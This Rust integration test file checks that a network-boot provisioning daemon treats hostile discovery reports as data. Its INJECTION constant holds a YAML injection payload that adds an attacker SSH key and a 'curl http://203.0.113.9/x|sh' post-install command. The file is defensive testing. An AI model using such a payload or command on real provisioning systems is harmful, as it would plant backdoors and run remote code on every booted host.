//! What a stranger reports is data, through the real binary: a discovery
//! report written to inject YAML, or to break the adopted file with one
//! control byte, changes no profile when the machine is adopted; an
//! adoption the profile set would refuse writes nothing; and control and
//! bidi characters a stranger sends reach a person escaped — in
//! `kickstand discovered`, `kickstand timeline`, `GET /status` and the log.

mod support;

use std::collections::BTreeMap;
use std::process::Output;
use std::time::Duration;

use percent_encoding::{NON_ALPHANUMERIC, utf8_percent_encode};
use support::{Bed, Daemon, kickstand};

const INJECTOR: &str = "52:54:00:99:99:07";
const BREAKER: &str = "52:54:00:99:99:08";
const NODE01: &str = "52:54:00:10:00:01";
const WAIT: Duration = Duration::from_secs(20);

/// The product a hostile machine reports: once percent-decoded into a
/// YAML comment, its lines were a group matching every MAC, with the
/// attacker's key and a `%post` for every host.
const INJECTION: &str = "Server\ngroups:\n  zz:\n    match: {mac: [\"*\"]}\n    profile: {ssh_keys: [\"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIattacker evil@lan\"], kickstart: {post: \"curl http://203.0.113.9/x|sh\"}}";

/// Every character a terminal, a log reader or a YAML parser must not get
/// from a stranger as it is: ESC, CR, LF, BEL, a C1 CSI and a bidi override.
const HAZARDS: [char; 6] = ['\u{1b}', '\r', '\n', '\u{7}', '\u{9b}', '\u{202e}'];

fn discovering_bed() -> Bed {
    let bed = Bed::new();
    bed.edit(
        "profiles/kickstand.yaml",
        "unknown: ignore",
        "unknown: discover",
    );
    bed
}

fn json(text: &str) -> serde_json::Value {
    serde_json::from_str(text).unwrap_or_else(|e| panic!("not JSON ({e}): {text}"))
}

/// A machine without a profile boots (and is sent the discovery script),
/// then reports `facts` as iPXE would, each value percent-encoded.
fn report(daemon: &Daemon, mac: &str, facts: &[(&str, &str)]) {
    assert_eq!(daemon.get(&format!("/boot/{mac}.ipxe")).0, 200);
    let query: Vec<String> = facts
        .iter()
        .map(|(k, v)| format!("{k}={}", utf8_percent_encode(v, NON_ALPHANUMERIC)))
        .collect();
    let (status, body) = daemon.get(&format!("/api/discover/{mac}?{}", query.join("&")));
    assert_eq!(status, 200, "{body}");
}

fn cli(bed: &Bed, args: &[&str]) -> Output {
    kickstand()
        .arg("--config")
        .arg(bed.config())
        .args(args)
        .output()
        .expect("kickstand runs")
}

fn stdout(out: &Output) -> String {
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// Every profiled host's kickstart as `kickstand render` makes it from the
/// profiles on disk: what the daemon would serve.
fn kickstarts(bed: &Bed, daemon: &Daemon) -> BTreeMap<String, Vec<u8>> {
    let (_, hosts) = daemon.get("/api/hosts");
    json(&hosts)
        .as_array()
        .expect("a list")
        .iter()
        .map(|h| {
            let mac = h["mac"].as_str().expect("mac").to_owned();
            let out = cli(bed, &["render", &mac]);
            assert!(out.status.success(), "{out:?}");
            (mac, out.stdout)
        })
        .collect()
}

/// Not one hazard in `text`, line breaks of its own aside.
fn assert_no_raw_hazards(what: &str, text: &str) {
    for line in text.lines() {
        assert!(
            !line.contains(HAZARDS),
            "{what} shows a raw control or bidi character: {line:?}"
        );
    }
}

/// The injection and the control byte, replayed through the discovery
/// report route; adopting both machines changes nothing but their own
/// profiles, the set stays valid, and the daemon starts again on it.
#[test]
fn adopting_a_hostile_report_writes_only_the_operators_data() {
    let bed = discovering_bed();
    let daemon = Daemon::start(&bed.config());
    let before = kickstarts(&bed, &daemon);
    report(
        &daemon,
        INJECTOR,
        &[("product", INJECTION), ("serial", "SN 1")],
    );
    report(
        &daemon,
        BREAKER,
        &[("serial", "\u{1b}[31m"), ("manufacturer", "QEMU\u{7}")],
    );
    let (_, found) = daemon.get("/api/discovered");
    let found = json(&found);
    let facts = |mac: &str| {
        found
            .as_array()
            .expect("a list")
            .iter()
            .find(|d| d["mac"] == mac)
            .unwrap_or_else(|| panic!("{mac} not discovered: {found:#}"))["facts"]
            .clone()
    };
    // Kept without their control characters, so no line of them is a line.
    let product = facts(INJECTOR)["product"]
        .as_str()
        .unwrap_or_default()
        .to_owned();
    assert!(product.starts_with("Servergroups:  zz:"), "{product:?}");
    assert_eq!(facts(BREAKER)["serial"], "[31m");
    assert_eq!(facts(BREAKER)["manufacturer"], "QEMU");

    for (mac, hostname, group) in [
        (INJECTOR, "victim01", None),
        (BREAKER, "victim02", Some("compute")),
    ] {
        let mut args = vec!["adopt", mac, "--hostname", hostname];
        args.extend(group.iter().flat_map(|g| ["--group", *g]));
        stdout(&cli(&bed, &args));
        let file = bed.path(&format!("profiles/adopted/{}.yaml", mac.replace(':', "-")));
        let written = std::fs::read_to_string(&file).expect("the adopted profile");
        let read: serde_json::Value = serde_saphyr::from_str(&written).expect("YAML");
        let mut host = serde_json::json!({"hostname": hostname});
        if let Some(g) = group {
            host["groups"] = serde_json::json!([g]);
        }
        assert_eq!(read, serde_json::json!({"hosts": {mac: host}}), "{written}");
        for reported in ["zz", "ssh-ed25519", "curl", "Server", "[31m", "QEMU"] {
            assert!(!written.contains(reported), "{reported} in:\n{written}");
        }
        assert_no_raw_hazards("the adopted file", &written);
    }

    let check = stdout(&cli(&bed, &["check"]));
    assert!(check.starts_with("ok:"), "{check}");
    let mut after = kickstarts(&bed, &daemon);
    for mac in [INJECTOR, BREAKER] {
        let ks =
            String::from_utf8(after.remove(mac).expect("adopted host rendered")).expect("UTF-8");
        assert!(
            !ks.contains("attacker") && !ks.contains("203.0.113.9"),
            "{ks}"
        );
    }
    assert_eq!(before, after, "another host's kickstart changed");
    let (status, ks) = daemon.kickstart(NODE01);
    assert_eq!(status, 200, "{ks}");
    assert!(
        !ks.contains("attacker") && !ks.contains("203.0.113.9"),
        "{ks}"
    );
    let (_, script) = daemon.get(&format!("/boot/{BREAKER}.ipxe"));
    assert!(script.contains("kernel"), "adopted and in force: {script}");

    // A reboot of the appliance: serve starts on the set with both files.
    assert!(daemon.stop(), "the daemon did not stop cleanly");
    let daemon = Daemon::start(&bed.config());
    let (_, status) = daemon.get("/api/status");
    assert_eq!(json(&status)["profiles"]["errors"], serde_json::json!([]));
}

/// An adoption the profile set would refuse — an unknown group, a hostname
/// another host has — writes nothing, says why, and leaves the machine
/// listed for a better try.
#[test]
fn a_refused_adoption_writes_nothing() {
    let bed = discovering_bed();
    let daemon = Daemon::start(&bed.config());
    report(&daemon, INJECTOR, &[("serial", "SN 1")]);
    let adopted = bed.path("profiles/adopted");
    for (args, why) in [
        (
            ["--hostname", "victim01", "--group", "nosuchgroup"],
            "nosuchgroup",
        ),
        (["--hostname", "node01", "--group", "compute"], "node01"),
    ] {
        let out = cli(&bed, &[&["adopt", INJECTOR][..], &args[..]].concat());
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(!out.status.success(), "accepted: {args:?}");
        assert!(
            err.contains("nothing was written") && err.contains(why),
            "{err}"
        );
        assert!(
            !adopted.exists(),
            "a refused adoption left {}",
            adopted.display()
        );
    }
    assert!(stdout(&cli(&bed, &["check"])).starts_with("ok:"));
    let (_, found) = daemon.get("/api/discovered");
    assert!(found.contains(INJECTOR), "still listed: {found}");
    let (_, status) = daemon.get("/api/status");
    assert_eq!(json(&status)["profiles"]["errors"], serde_json::json!([]));

    stdout(&cli(
        &bed,
        &[
            "adopt",
            INJECTOR,
            "--hostname",
            "victim01",
            "--group",
            "compute",
        ],
    ));
    assert!(adopted.join("52-54-00-99-99-07.yaml").is_file());
}

/// An adoption that cannot be written is a 500 whose cause is in the log
/// once, at warn, on the request's own line. `adopted` is a link to a
/// directory where no one can create a file, root neither (procfs): what
/// a read-only file system did on the appliance, as any user.
#[test]
fn an_adoption_that_cannot_be_written_logs_why() {
    let bed = discovering_bed();
    std::os::unix::fs::symlink("/proc/self/fdinfo", bed.path("profiles/adopted"))
        .expect("link adopted into procfs");
    let daemon = Daemon::start(&bed.config());
    report(&daemon, INJECTOR, &[("serial", "SN 1")]);
    let out = cli(&bed, &["adopt", INJECTOR, "--hostname", "victim01"]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "adopted into a file");
    assert!(err.contains("writing"), "{err}");
    let line = daemon
        .wait_for_log("status=500", WAIT)
        .expect("the 500 is logged");
    assert!(line.contains("WARN"), "{line}");
    assert!(
        line.contains("cause=") && line.contains("writing"),
        "{line}"
    );
    let causes = daemon.log().matches("cause=").count();
    assert_eq!(causes, 1, "logged once: {}", daemon.log());
}

/// Control and bidi characters from strangers reach a person escaped:
/// what the daemon keeps has none (the log shows the report escaped);
/// rows an older Kickstand kept with them raw are shown escaped by
/// `discovered`, `timeline` and `/status`; a TFTP client's error text is
/// escaped in the log.
#[test]
fn stranger_text_reaches_a_person_escaped() {
    let bed = discovering_bed();
    let daemon = Daemon::start(&bed.config());
    let hostile = "A\u{1b}[31mB\r\nC\u{7}D\u{9b}E\u{202e}F";
    report(
        &daemon,
        INJECTOR,
        &[("product", hostile), ("serial", hostile)],
    );
    let line = daemon
        .wait_for_log("discovery report", WAIT)
        .expect("the report is logged");
    assert!(
        line.contains(r"\u{1b}[31mB\r\nC\u{7}D\u{9b}E\u{202e}F"),
        "{line}"
    );
    let discovered = stdout(&cli(&bed, &["discovered"]));
    assert!(discovered.contains("A[31mBCDEF"), "{discovered}");
    assert_no_raw_hazards("kickstand discovered", &discovered);
    let (_, page) = daemon.get("/status");
    assert!(page.contains("A[31mBCDEF"), "{page}");
    assert_no_raw_hazards("/status", &page);

    // A TFTP client's error text goes into the log as a `%` field.
    tftp_abort(&daemon.tftp_addr(), &format!("boot/{NODE01}.ipxe"), hostile);
    let line = daemon
        .wait_for_log("client aborted", WAIT)
        .expect("the abort is logged");
    assert!(
        line.contains(r"A\x1b[31mB\r\nC\x07D\x9bE\u{202e}F"),
        "{line}"
    );
    assert_no_raw_hazards("the log", &daemon.log());
    assert!(daemon.stop());

    // What an older Kickstand kept raw: the facts, and an event's detail.
    let db = rusqlite::Connection::open(bed.path("var/state/state.db")).expect("state.db");
    let raw = serde_json::json!({"product": hostile, "serial": hostile}).to_string();
    let changed = db
        .execute(
            "UPDATE discovered SET facts = ?1 WHERE mac = ?2",
            (&raw, INJECTOR),
        )
        .expect("update facts");
    assert_eq!(changed, 1);
    let detail = serde_json::json!({"outcome": hostile}).to_string();
    let changed = db
        .execute(
            "UPDATE events SET detail = ?1 WHERE mac = ?2",
            (&detail, INJECTOR),
        )
        .expect("update events");
    assert!(changed >= 1);
    drop(db);

    let escaped = r"A\x1b[31mB\r\nC\x07D\x9bE\u{202e}F";
    let discovered = stdout(&cli(&bed, &["discovered"]));
    assert!(discovered.contains(escaped), "{discovered}");
    assert_no_raw_hazards("kickstand discovered", &discovered);
    let timeline = stdout(&cli(&bed, &["timeline", INJECTOR]));
    // serde_json writes C0 controls as `\u001b`, `\r`, `\n`; the rest is
    // escaped for the terminal.
    assert!(
        timeline.contains(r"A\u001b[31mB\r\nC\u0007D\x9bE\u{202e}F"),
        "{timeline}"
    );
    assert_no_raw_hazards("kickstand timeline", &timeline);
    let daemon = Daemon::start(&bed.config());
    let (_, page) = daemon.get("/status");
    assert!(page.contains(escaped), "{page}");
    assert_no_raw_hazards("/status", &page);
}

/// A discovered machine an operator gives a profile by hand (a host file,
/// not `adopt`) is a host: it leaves `/api/discovered`, `kickstand
/// discovered` and the status page's adopt hint once the edit is in force,
/// and the stored table, which the CLI reads with the daemon stopped.
#[test]
fn a_discovered_machine_given_a_profile_is_no_longer_listed() {
    const STRANGER: &str = "52:54:00:99:99:09";
    let bed = discovering_bed();
    let daemon = Daemon::start(&bed.config());
    report(&daemon, INJECTOR, &[("serial", "SN-KEEP")]);
    report(&daemon, STRANGER, &[("serial", "SN-PROFILED")]);
    let listed = |mac: &str| {
        let (_, found) = daemon.get("/api/discovered");
        json(&found)
            .as_array()
            .expect("a list")
            .iter()
            .any(|d| d["mac"] == mac)
    };
    assert!(listed(STRANGER) && listed(INJECTOR));

    bed.write(
        "profiles/hosts/by-hand.yaml",
        &format!("hosts:\n  \"{STRANGER}\":\n    hostname: byhand01\n"),
    );
    let gone = support::eventually(WAIT, || (!listed(STRANGER)).then_some(()));
    assert!(gone.is_some(), "still discovered:\n{}", daemon.log());
    assert!(listed(INJECTOR), "a machine without a profile stays listed");
    let shown = stdout(&cli(&bed, &["discovered"]));
    assert!(
        shown.contains(INJECTOR) && !shown.contains(STRANGER),
        "{shown}"
    );
    let (_, page) = daemon.get("/status");
    assert!(
        page.contains("byhand01") && !page.contains("SN-PROFILED"),
        "{page}"
    );

    assert!(daemon.stop(), "the daemon stops cleanly");
    let stored = stdout(&cli(&bed, &["discovered"]));
    assert!(
        stored.contains(INJECTOR) && !stored.contains(STRANGER),
        "{stored}"
    );
}

/// Starts a TFTP read of `path` and answers its first block with an ERROR
/// packet carrying `message`, as a client giving up would.
fn tftp_abort(server: &str, path: &str, message: &str) {
    let socket = std::net::UdpSocket::bind("127.0.0.1:0").expect("bind");
    socket
        .set_read_timeout(Some(Duration::from_secs(10)))
        .expect("timeout");
    let rrq = [b"\0\x01", path.as_bytes(), b"\0octet\0"].concat();
    socket.send_to(&rrq, server).expect("RRQ");
    let mut buf = [0u8; 1024];
    let (n, transfer) = socket.recv_from(&mut buf).expect("the first block");
    assert!(
        n >= 4 && buf[..4] == [0, 3, 0, 1],
        "not DATA 1: {:?}",
        &buf[..n]
    );
    let error = [b"\0\x05\0\0", message.as_bytes(), b"\0"].concat();
    socket.send_to(&error, transfer).expect("ERROR");
}
